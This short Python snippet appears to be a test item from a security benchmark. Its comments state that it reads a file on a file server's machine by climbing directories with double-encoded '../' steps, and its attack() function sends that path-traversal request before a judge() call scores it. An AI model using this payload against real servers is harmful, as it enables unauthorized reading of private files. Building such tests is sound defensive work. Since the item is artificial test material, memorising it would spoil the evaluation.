# aim: read a file of the server's machine
# mechanism: steps upwards that are encoded twice
# server: files
# plain: naive

def attack():
    ask("GET", f"{here}/files/content?path={quote(quote('../' * 20 + secret_path.lstrip('/'), safe=''))}")


judge(attack)
